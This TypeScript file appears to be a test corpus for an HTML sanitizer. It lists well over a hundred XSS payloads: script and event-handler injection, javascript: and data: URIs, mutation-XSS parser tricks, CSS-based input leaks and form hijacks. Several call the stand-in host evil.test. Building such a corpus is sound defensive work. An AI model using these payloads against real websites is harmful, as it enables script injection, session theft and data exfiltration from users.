const raw = String.raw;

/**
 * Attacks by rich text: running a script, sending a request, taking over the page. A successful one calls `alert` or
 * sends a request to `evil.test`.
 */
const payloads: Record<string, string> = {
  // Scripts
  script: '<script>alert(1)</script>',
  'script from elsewhere': '<script src="https://evil.test/x.js"></script>',
  'script in mixed case': '<ScRiPt>alert(1)</sCrIpT >',
  'script with a slash': '<script/src="https://evil.test/x.js"></script>',
  'script as a module': '<script type="module">import "https://evil.test/m.js"</script>',
  'script that is not closed': '<script>alert(1)//',
  'script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script in a doubled bracket': '<<script>alert(1);//<</script>',
  'script with a null': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'script as text': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'script as text of text': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  // Handlers
  'image with onerror': '<img src=x onerror=alert(1)>',
  'image with a slash': '<img/src=x/onerror=alert(1)>',
  'image in quotes': '<img """><script>alert(1)</script>">',
  'image with a newline': '<img src=x\nonerror\n=\nalert(1)>',
  'image from elsewhere': '<img src="https://evil.test/pixel.gif" srcset="https://evil.test/2x.gif 2x">',
  'handler on an allowed tag': '<p onmouseover="alert(1)" onclick=alert(1)>x</p>',
  'handler that focuses itself': '<p tabindex=1 autofocus onfocus=alert(1) id=x>x</p>',
  'handler of an animation': '<b style="animation-name:x" onanimationstart="alert(1)">x</b>',
  'handler on a link': '<a href="https://quran.com" onclick="alert(1)" onpointerenter=alert(1)>x</a>',
  'body with onload': '<body onload=alert(1) onpageshow=alert(1)>',
  'details that toggles': '<details open ontoggle=alert(1)>x</details>',
  'video with onerror': '<video autoplay onloadstart=alert(1)><source onerror=alert(1) src=x></video>',
  'audio from elsewhere': '<audio src="https://evil.test/a.mp3" autoplay onerror=alert(1)></audio>',
  'marquee with onstart': '<marquee onstart=alert(1)>x</marquee>',
  'select that focuses itself': '<select autofocus onfocus=alert(1)><option>x</select>',
  'popover that toggles': '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
  'element that nobody knows': '<xss contenteditable onfocus=alert(1) autofocus tabindex=0>x</xss>',
  'custom element': '<x-card is="x-card" onclick=alert(1)>x</x-card>',
  // SVG and MathML
  'svg with onload': '<svg onload=alert(1)>',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with an encoded script': '<svg><script>&#97;lert(1)</script></svg>',
  'svg that animates a link': raw`<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
  'svg that sets an address': '<svg><set attributeName=href to=javascript:alert(1) begin=0s></svg>',
  'svg that uses data': '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
  'svg with an image': '<svg><image href="https://evil.test/x.svg" onerror=alert(1) /></svg>',
  'svg with foreign content':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'svg with a style': '<svg><style>*{background:url(https://evil.test/svg)}</style></svg>',
  'math with a link':
    '<math><mtext><a xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</a></mtext></math>',
  'math with an action':
    '<math><maction actiontype="statusline#https://evil.test" href="javascript:alert(1)">x</maction></math>',
  // Addresses
  'javascript address': '<a href="javascript:alert(1)">x</a>',
  'javascript in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'javascript with an encoded newline': '<a href="java&#10;script:alert(1)">x</a>',
  'javascript with named blanks': '<a href="&Tab;java&NewLine;script&colon;alert&lpar;1&rpar;">x</a>',
  'javascript in decimals': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript in long hex': '<a href="&#x000006A&#x0000061vascript:alert(1)">x</a>',
  'javascript behind control characters': '<a href="\u0001\u0002 javascript:alert(1)">x</a>',
  'javascript behind a blank': '<a href=" \u00a0javascript:alert(1)">x</a>',
  'javascript with a comment':
    '<a href="javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/alert(1)">x</a>',
  'javascript behind a host': '<a href="javascript://quran.com/%0aalert(1)">x</a>',
  'javascript without quotes': '<a href=javascript:alert&#40;1&#41;>x</a>',
  'javascript with backquotes': '<a href=`javascript:alert(1)`>x</a>',
  'javascript in wide letters': '<a href="ｊａｖａｓｃｒｉｐｔ：alert(1)">x</a>',
  'javascript with a soft hyphen': '<a href="java\u00adscript:alert(1)">x</a>',
  'data address': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data address in base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'vbscript address': '<a href="vbscript:msgbox(1)">x</a>',
  'blob address': '<a href="blob:https://evil.test/1">x</a>',
  'file address': '<a href="file:///etc/passwd">x</a>',
  'address without a scheme': '<a href="//evil.test/x">x</a>',
  'address with backslashes': raw`<a href="\\evil.test\x">x</a><a href="https:\\evil.test">x</a>`,
  'address of this site': '<a href="/auth/signin?next=//evil.test">x</a><a href="dashboard">x</a><a href="#x">x</a>',
  'address in plain http': '<a href="http://evil.test">x</a>',
  'address behind another name': '<a href="https://quran.com@evil.test/">x</a>',
  'address that leaves its quotes': '<a href="https://quran.com/&quot; onclick=alert(1) x=&quot;">x</a>',
  'address that leaves its tag': `<a href="https://quran.com/'><img src=x onerror=alert(1)>">x</a>`,
  'two addresses':
    '<a href="https://quran.com" href="javascript:alert(1)">x</a><a href="javascript:alert(1)" href="https://quran.com">x</a>',
  'address with a newline in its scheme': '<a href="ht\ntps://evil.test">x</a>',
  'ping and download': '<a href="https://quran.com" ping="https://evil.test/ping" download="x.exe">x</a>',
  // Markup that changes when it is parsed again
  'noscript with an image': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template with an image': '<template><img src=x onerror=alert(1)></template>',
  'declared shadow root': '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'title that ends early': '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  'textarea that ends early': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'style that ends early': '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  'xmp that ends early': '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  'noembed that ends early': '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  'iframe as text': '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'comment that is not closed': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'CDATA in svg': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'CDATA in HTML': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'processing instruction': '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>',
  doctype: '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  'math that turns into a style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'form that turns into math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'svg paragraph and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'annotation that is HTML':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'table that moves its text': '<table><tr><td><a href="javascript:alert(1)">x<table><script>alert(1)</script></table>',
  'select that swallows':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
  // Nested and broken
  'tags within tags': '<p<b onclick=alert(1)>x</b></p',
  'closed before it was opened': '</p></b></ul></script><img src=x onerror=alert(1)>',
  'links within links': '<a href="https://quran.com"><a href="javascript:alert(1)">x</a></a>',
  'crossed tags': '<b><p>x</b><i>y</p></i><ul><a href="javascript:alert(1)"></ul>x</a>',
  'attribute without an end': '<a href="https://quran.com><img src=x onerror=alert(1)>',
  'attributes of odd names': '<p "onclick=alert(1) <onclick=alert(1) =onclick=alert(1)>x</p>',
  'deep nesting': `${'<b>'.repeat(45)}x${'</b>'.repeat(30)}<img src=x onerror=alert(1)>`,
  'deep lists': `${'<ul><li>'.repeat(24)}x<script>alert(1)</script>`,
  // Styles
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.test/css)">x</p>',
  'style with an expression': '<p style="width:expression(alert(1));behavior:url(https://evil.test/x.htc)">x</p>',
  'style with a binding': '<p style="-moz-binding:url(https://evil.test/x.xml#x)">x</p>',
  'style sheet that imports': '<style>@import "https://evil.test/x.css";</style>',
  'style sheet that reads': '<style>input[value^=a]{background:url(https://evil.test/a)}</style>',
  'linked style sheet':
    '<link rel=stylesheet href="https://evil.test/x.css"><link rel=preload as=script href="https://evil.test/x.js">',
  'background of old': '<table background="https://evil.test/bg"><td background="javascript:alert(1)">x</table>',
  // Taking over the page
  'form that asks':
    '<form action="https://evil.test"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  'isindex of old': '<isindex type=image src=x onerror=alert(1)>',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  'base address': '<base href="https://evil.test/"><a href="x">x</a>',
  'frame with a document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'frame with an address': '<iframe src="javascript:alert(1)"></iframe><iframe src="https://evil.test"></iframe>',
  'object and embed':
    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="https://evil.test/x.swf">',
  'applet and frameset':
    '<applet code="x" codebase="https://evil.test"></applet><frameset><frame src="javascript:alert(1)"></frameset>',
  'portal and fenced frame':
    '<portal src="https://evil.test"></portal><fencedframe src="https://evil.test"></fencedframe>',
  'names of the page':
    '<p id="academy-registry" name="cookie">x</p><form id=createElement><input name=attributes></form>',
  'target and rel of its own':
    '<a href="https://quran.com" target="_self" rel="opener">x</a><a href="https://quran.com" target="academy" rel>x</a>',
  'classes of the editor':
    '<p class="ql-indent-1 ql-editor ql-video">x</p><p class="ql-indent-9 ql-indent-1x">x</p><b class="ql-indent-2">x</b>',
  'classes of the page':
    '<p class="modal-backdrop" data-action="delete" slot="x" part="x" role="alert" aria-label="x" lang="x" dir="x" hidden>x</p>',
  'formula of the editor':
    '<span class="ql-formula" data-value="\\href{javascript:alert(1)}{x}">x</span><iframe class="ql-video" src="https://evil.test"></iframe>',
  // Letters
  'letters that look like brackets':
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039img src=x onerror=alert(1)\u203a',
  'UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'half a pair': '\ud83d<img src=x onerror=alert(1)>\ude00',
  'blanks that are none': '<img\u200bsrc=x onerror=alert(1)><img\u000csrc=x\u000conerror=alert(1)>',
  'letters from right to left': '\u202e<a href="https://quran.com/\u202emoc.live">x</a>',
  'expressions of frameworks': '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %> [[7*7]]',
};

/** Each payload with a visible text before it, so that it is a post like any other. */
export const xssCorpus: readonly { name: string; html: string }[] = Object.entries(payloads).map(([name, html]) => ({
  name,
  html: `<p>${name}</p>${html}`,
}));
